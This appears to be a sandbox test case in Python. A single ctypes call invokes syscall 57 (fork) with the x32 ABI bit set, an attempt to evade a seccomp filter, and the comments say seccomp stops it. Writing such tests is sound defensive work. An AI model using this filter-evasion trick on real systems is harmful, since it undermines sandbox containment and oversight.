"""Calls the kernel by the numbers of the x32 ABI, which a filter can overlook."""
# earns: all
# says: ended the process
# stopped by: seccomp

# %% attack
import ctypes

ctypes.CDLL(None).syscall(0x40000000 | 57)
